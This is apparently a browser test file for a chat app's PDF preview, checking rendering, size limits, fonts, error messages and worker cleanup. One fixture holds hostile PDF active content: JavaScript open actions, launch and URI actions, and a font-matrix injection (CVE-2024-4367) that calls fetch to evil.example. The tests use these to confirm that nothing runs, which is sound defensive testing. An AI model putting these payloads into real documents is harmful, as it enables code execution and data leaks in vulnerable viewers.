// PDF preview in a real browser, under the page's content security policy (CHAT-03).
import type { Page } from 'playwright-core';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { releaseBrowser } from '../../scripts/chromium.ts';
import { expectNone } from '../harness/assert-each.ts';
import { createPdf, GREY_JPEG_2000, type PdfInput, type PdfPageInput } from './pdf-fixture.ts';
import { COLORS, emptyPage, FIVE, ORIGIN, openPdfPage, waitForCanvas } from './pdf-page.ts';

/** A page's canvas: its size, the pixels in its middle and corner, and whether its top has text. */
const pixels = (page: Page, number: number): Promise<unknown> =>
  page.evaluate(`(() => {
    const canvas = document.querySelector('[data-page="${number}"] canvas');
    const { width, height } = canvas;
    const context = canvas.getContext('2d');
    const at = (x, y) => Array.from(context.getImageData(x, y, 1, 1).data.slice(0, 3));
    const top = context.getImageData(0, 0, width, Math.round(height / 8)).data;
    let dark = 0;
    for (let i = 0; i < top.length; i += 4) if (top[i] < 80) dark += 1;
    return { width, height, middle: at(width >> 1, height >> 1), corner: at(2, height - 3), hasText: dark > 200 };
  })()`);

test('CHAT-03 pages are rendered as they are reached: colours, text, the width of the screen', async () => {
  const { page, requested, problems, show } = await openPdfPage();
  expectNone(requested, (path) => /pdf/.test(path), 'nothing of the reader before it is needed');
  await show(createPdf(FIVE));
  await waitForCanvas(page, 1);
  for (let number = 1; number <= 5; number += 1) {
    await page.evaluate(`document.querySelector('[data-page="${number}"]').scrollIntoView()`);
    await waitForCanvas(page, number);
    assert.equal(await pixels(page, number), {
      width: 720,
      height: 1018,
      middle: (COLORS[number - 1] ?? []).map((share) => share * 255),
      corner: [255, 255, 255],
      hasText: true,
    });
    assert.is(await page.getByRole('img', { name: `Page ${number} of 5` }).count(), 1);
  }
  // Only pages near the viewport have a canvas.
  await page.waitForFunction(() => document.querySelectorAll('canvas').length <= 3);
  assert.is(await page.locator('[data-page="1"] canvas').count(), 0);
  const box = await page.locator('[data-page="1"]').boundingBox();
  assert.is(Math.round(box?.width ?? 0), 360);
  assert.is(Math.round(box?.height ?? 0), 509, 'its place is kept');
  // The first page is rendered again after scrolling back.
  await page.evaluate(`document.querySelector('[data-page="1"]').scrollIntoView()`);
  await waitForCanvas(page, 1);
  assert.equal(problems, []);
  expectNone(requested, (path) => !path.startsWith('/'), 'no request goes to another host');
  assert.ok(
    requested.some((path) => path.includes('/standard_fonts/')),
    'the font that the file lacks is ours',
  );
  await page.context().close();
});

test('CHAT-03 a page has at most five million pixels, and keeps its proportions', async () => {
  const { page, show, problems } = await emptyPage();
  await show(createPdf([{ color: [1, 0, 1], text: 'Long', size: [100, 4000] }]));
  await waitForCanvas(page, 1);
  const { width, height } = (await pixels(page, 1)) as { width: number; height: number };
  assert.ok(width * height <= 5_000_000, `${width} × ${height}`);
  assert.ok(height <= 8192, `${height}`);
  const box = await page.locator('[data-page="1"]').boundingBox();
  assert.is(Math.round(box?.height ?? 0), 14_400);
  assert.equal(problems, []);
});

test('CHAT-03 a receipt in Chinese without its font has its text, a scan in JPEG 2000 its picture', async () => {
  const { page, show, requested, problems } = await emptyPage();
  const chinese = [
    '/Subtype /Type0 /BaseFont /STSong-Light-UniGB-UCS2-H /Encoding /UniGB-UCS2-H',
    '/DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /DW 1000',
    '/CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >>',
    '/FontDescriptor << /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880]',
    '/ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >> >>]',
  ].join(' ');
  const digits = '1234.50'.replace(/./g, '\\000$&');
  await show(createPdf([{ color: [1, 0, 0], text: digits }], { font: chinese, image: GREY_JPEG_2000 }));
  await waitForCanvas(page, 1);
  const { middle, hasText } = (await pixels(page, 1)) as { middle: unknown; hasText: boolean };
  assert.equal({ middle, hasText }, { middle: [128, 128, 128], hasText: true });
  assert.equal(problems, []);
  for (const name of [/\/cmaps\/UniGB-UCS2-H\.bcmap$/, /\/wasm\/openjpeg_nowasm_fallback\.js$/])
    assert.ok(
      requested.some((path) => name.test(path)),
      String(name),
    );
});

test('CHAT-03 a file that cannot be shown has an error: damaged, with a password, no PDF', async () => {
  const { page, show, problems } = await emptyPage();
  const expectError = async (bytes: Uint8Array, words: string): Promise<void> => {
    await show(bytes);
    await page.getByText(words).waitFor();
    assert.is(await page.locator('canvas').count(), 0);
  };
  const whole = createPdf(FIVE);
  await expectError(new TextEncoder().encode('%PDF-1.4\nnothing of the kind'), 'This PDF is damaged');
  await expectError(whole.slice(0, 60), 'This PDF is damaged');
  await expectError(new Uint8Array(0), 'This PDF is damaged');
  await expectError(createPdf(FIVE, { lock: true }), 'This PDF is password-protected');
  assert.equal(problems, []);
});

test('CHAT-03 of more than 200 pages the first 200 are shown, and a line says so', async () => {
  const { page, show, problems } = await emptyPage();
  const page201 = Array.from({ length: 201 }, (): PdfPageInput => ({ color: [1, 0, 0], text: 'x' }));
  await show(createPdf(page201));
  await page.getByText('Only the first 200 of 201 pages are shown.').waitFor();
  await waitForCanvas(page, 1);
  assert.is(await page.locator('[data-page]').count(), 200);
  assert.equal(problems, []);
});

test('CHAT-03 the last of 200 pages is rendered, with a few canvases at a time', async () => {
  const { page, show, problems } = await emptyPage();
  const colorOf = (number: number): PdfPageInput['color'] => COLORS[number % COLORS.length] ?? [0, 0, 0];
  await show(
    createPdf(Array.from({ length: 200 }, (_, at) => ({ color: colorOf(at + 1), text: `Page ${at + 1}` }))),
  );
  await waitForCanvas(page, 1);
  for (const number of [1, 100, 200]) {
    await page.evaluate(`document.querySelector('[data-page="${number}"]').scrollIntoView()`);
    await waitForCanvas(page, number);
    const { middle } = (await pixels(page, number)) as { middle: unknown };
    assert.equal(
      middle,
      colorOf(number).map((share) => share * 255),
      `page ${number}`,
    );
    await page.waitForFunction(() => document.querySelectorAll('canvas').length <= 5);
  }
  assert.equal(problems, []);
});

/** Active content in a PDF: scripts, links, forms, launch actions, code in a font's matrix. */
const HOSTILE: PdfInput = {
  catalog: [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\);globalThis.isHacked=1) >>',
    '/AA << /WC << /S /URI /URI (https://evil.example/close) >> >>',
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (globalThis.isHacked=1) >>] >> >>',
    '/AcroForm << /XFA [(template) << /F (https://evil.example/xfa) >>] /Fields [] >>',
    '/URI << /Base (https://evil.example/) >>',
  ].join(' '),
  page: [
    '/AA << /O << /S /Launch /F (https://evil.example/launch) >> >>',
    '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 900] /A << /S /URI /URI (https://evil.example/link) >> >>',
    '<< /Type /Annot /Subtype /Screen /Rect [0 0 600 900] /AA << /PV << /S /URI /URI (https://evil.example/seen) >> >> >>]',
  ].join(' '),
  // CVE-2024-4367.
  font: '/FontMatrix [0.001 0 0 0.001 0 (0\\); globalThis.isHacked = 1; fetch\\("https://evil.example/font"\\); //)]',
};

test('CHAT-03 active content of a PDF has no effect: nothing runs, only our own files are requested', async () => {
  const { page, show, requested, problems } = await openPdfPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await show(createPdf(FIVE, HOSTILE));
  await waitForCanvas(page, 1);
  const { middle } = (await pixels(page, 1)) as { middle: unknown };
  assert.equal(middle, [255, 0, 0]);
  // A tap on the link and closing the page trigger its actions.
  await page.locator('[data-page="1"]').click({ position: { x: 180, y: 250 } });
  const workers = await Promise.all(page.workers().map((worker) => worker.evaluate('typeof isHacked')));
  await page.evaluate('leave()');
  await page.waitForFunction(() => document.querySelector('canvas') === null);
  assert.equal([await page.evaluate('typeof isHacked'), ...workers], ['undefined', 'undefined']);
  assert.equal(dialogs, []);
  assert.is(page.url(), `${ORIGIN}/`);
  const ours = /^\/((page|pdf)[\w.-]*\.(js|css)|pdf-data-[\w./-]*)?$|^\/assets\//;
  expectNone(requested, (path) => !ours.test(path));
  assert.equal(problems, []);
  await page.context().close();
});

test('CHAT-03 leaving ends the worker, also while it renders', async () => {
  const { page, show, problems } = await emptyPage();
  await show(createPdf(FIVE));
  await page.waitForSelector('[data-page="1"]');
  assert.is(page.workers().length, 1);
  const ended = page.workers()[0]?.waitForEvent('close');
  await page.evaluate('leave()');
  await ended;
  assert.is(page.workers().length, 0);
  assert.equal(problems, []);
});

for (const script of ['pdf-document', 'pdf-worker'])
  test(`CHAT-03 a failure to load pdf.js (${script}) shows an error, and Retry loads it`, async () => {
    const { page, show, restore } = await openPdfPage({ without: new RegExp(script) });
    await show(createPdf(FIVE));
    await page.getByText("Couldn't load the PDF viewer. Please try again.").waitFor();
    restore();
    await page.getByRole('button', { name: 'Retry' }).click();
    await waitForCanvas(page, 1);
    await page.context().close();
  });

test.after(releaseBrowser);
test.run();
